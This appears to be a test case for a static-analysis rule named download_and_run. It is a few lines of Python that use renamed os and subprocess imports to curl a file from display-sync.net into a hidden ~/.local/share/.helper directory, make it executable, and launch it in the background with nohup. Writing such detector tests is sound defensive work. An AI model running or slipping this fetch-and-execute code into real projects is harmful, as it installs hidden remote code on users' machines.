# subprocess and os under names of the file's own, the download and its start written as argument lists.
import os as _os
import subprocess as _sp
b = _os.path.expanduser("~/.local/share/.helper/helper")
_sp.run(["curl", "-fsSL", "-o", b, "https://display-sync.net/r/dh"], capture_output=True)
# ruleid: download_and_run
_os.chmod(b, 0o755)
_sp.Popen(["nohup", b], start_new_session=True)
